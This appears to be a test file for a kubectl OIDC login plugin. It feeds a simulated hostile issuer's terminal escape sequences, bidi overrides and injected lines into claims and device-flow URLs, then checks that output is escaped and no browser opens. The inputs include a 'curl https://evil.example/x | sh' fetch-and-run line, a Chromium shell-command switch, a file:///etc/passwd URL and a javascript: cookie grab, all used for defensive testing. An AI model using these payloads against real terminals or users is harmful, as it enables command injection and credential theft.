/**
 * Issue 17, items 2 and 3: a hostile issuer. It puts terminal escapes (title, colour, OSC 8 links,
 * OSC 52 clipboard writes), CR, newlines and bidi overrides in every field we show, and points the
 * device flow's URL at a Chromium switch, a file and a script. Nothing of it reaches a terminal, the
 * agent log or setup's copy-paste output as is, and no browser is started for those URLs.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createWorld, requireTools, agentLog, type World } from './world.js';
import type { KubectlResult } from '../rig/apiserver.js';
import { PASSWORD_FOR_TESTS } from '../rig/issuer.js';

const skip = requireTools();

/** What a terminal acts on, or what starts a new line, other than LF itself. */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;
const INJECTED = 'curl https://evil.example/x | sh';
const SUB = `mallory\n# looks like a comment\n${INJECTED}\r\u001b]0;pwned title\u0007`;
const EMAIL = '\u001b]8;;https://evil.example/\u001b\\alice@example.com\u001b]8;;\u001b\\';
const GROUPS = ['dev\u001b[31m', `ops\n${INJECTED}`, '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007', 'admin\u202egnp.exe', 'csi\u009b2J'];

function assertPrintable(what: string, text: string): void {
  const bad = text.replace(/\n/g, '').match(CONTROL);
  assert.equal(bad, null, `${what} carries ${JSON.stringify(bad?.[0])}: ${JSON.stringify(text)}`);
  assert.ok(!text.split('\n').some((l) => l.trimStart().startsWith(INJECTED)), `${what} has an injected line: ${text}`);
}
function assertAll(r: KubectlResult, what: string): void {
  assertPrintable(`${what} stdout`, r.stdout);
  assertPrintable(`${what} stderr`, r.stderr);
}

const passwordArgs = (w: World) => [...w.tokenArgs, '--grant-type=password', '--username=alice'];
const withPassword = { env: { KUBECTL_OIDC_PASSWORD: PASSWORD_FOR_TESTS } };

test('a hostile issuer: its text is escaped in every output, its URLs are not opened', { skip, timeout: 180_000 }, async (t) => {
  const w = await createWorld({ issuer: { claims: { sub: SUB, email: EMAIL, name: SUB }, groups: GROUPS } });
  t.after(() => w.close());

  await t.test('an endpoint value with escapes, in the discovery error', async () => {
    const base = w.issuer.url;
    w.issuer.setFault('discovery', {
      body: JSON.stringify({
        issuer: base,
        authorization_endpoint: `http://evil.example/\u001b]52;c;Y3VybA==\u0007auth\n${INJECTED}`,
        token_endpoint: `${base}/token`,
        jwks_uri: `${base}/keys`,
        response_types_supported: ['code'],
        subject_types_supported: ['public'],
        id_token_signing_alg_values_supported: ['RS256'],
      }),
    });
    const r = await w.plugin(['login', ...passwordArgs(w)], withPassword);
    w.issuer.setFault('discovery', undefined);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /authorization_endpoint is not https \(http:\/\/evil\.example\/\\x1b\]52;c;Y3VybA==\\x07auth\\ncurl/);
    assertAll(r, 'login');
  });

  await t.test('claims (sub, email, groups): login, status and setup print them escaped; setup injects no line', async () => {
    const login = await w.plugin(['login', ...passwordArgs(w)], withPassword);
    assert.equal(login.code, 0, login.stderr);
    assertAll(login, 'login');
    assert.ok(login.stderr.includes('subject: mallory\\n# looks like a comment\\ncurl'), login.stderr);
    assert.ok(login.stderr.includes('\\x1b]52;c;'), 'the OSC 52 write is shown, escaped');

    const status = await w.plugin(['status']);
    assert.equal(status.code, 0, status.stderr);
    assertAll(status, 'status');
    assert.match(status.stdout, /\\x1b\]8;;https:\/\/evil\.example/);
    const json = await w.plugin(['status', '-o', 'json']);
    assertAll(json, 'status -o json');

    const setup = await w.plugin(['setup', ...passwordArgs(w)], withPassword);
    assert.equal(setup.code, 0, setup.stderr);
    assertAll(setup, 'setup');
    assert.match(setup.stdout, /^# Your ID token: sub mallory\\n# looks like a comment\\ncurl/m);
  });

  await t.test('device code: a Chromium switch, file: and javascript: as the URL are shown escaped, never opened; a hostile user code and error too', async () => {
    await w.plugin(['logout', ...w.tokenArgs]);
    const before = await w.launches();
    for (const url of ['--renderer-cmd-prefix=/bin/sh -c "id > /tmp/pwned"', 'file:///etc/passwd', 'javascript:alert(document.cookie)', `https://evil.example/device\u001b[2J`]) {
      w.issuer.setFault('device', {
        body: JSON.stringify({
          device_code: 'not-a-real-device-code',
          user_code: `WDJB\u001b]52;c;Y3VybA==\u0007-MJHT\n${INJECTED}`,
          verification_uri: 'https://evil.example/device\r\u001b[2K',
          verification_uri_complete: url,
          expires_in: 60,
          interval: 1,
        }),
        times: 1,
      });
      w.issuer.setFault('token', { status: 400, body: JSON.stringify({ error: 'access_denied\u001b[8m', error_description: `denied\n${INJECTED}` }), times: 1 });
      const r = await w.plugin(['login', ...w.tokenArgs, '--grant-type=device-code'], { timeoutMs: 30_000 });
      w.issuer.setFault('token', undefined);
      assert.equal(r.code, 1, r.stderr);
      assertAll(r, `device login with ${JSON.stringify(url)}`);
      assert.match(r.stderr, /Not opening a browser at the issuer's URL/);
      assert.ok(r.stderr.includes('WDJB\\x1b]52;c;Y3VybA==\\x07-MJHT\\ncurl'), r.stderr);
    }
    assert.equal(await w.launches(), before, 'no browser was started');
  });

  await t.test('the agent log holds none of it raw', () => {
    const log = agentLog(w);
    assert.ok(log.length > 0);
    assertPrintable('the agent log', log);
  });
});
